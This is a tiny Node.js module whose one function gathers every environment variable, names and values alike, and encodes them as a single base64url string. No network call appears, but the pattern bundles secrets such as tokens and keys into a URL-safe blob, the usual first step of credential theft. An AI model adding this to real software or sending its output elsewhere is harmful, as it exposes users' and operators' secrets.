import { env } from 'node:process';

export const all = () => {
	const q = new URLSearchParams();
	for (const name of Object.keys(env)) q.set(name, env[name]);
	return Buffer.from(String(q)).toString('base64url');
};
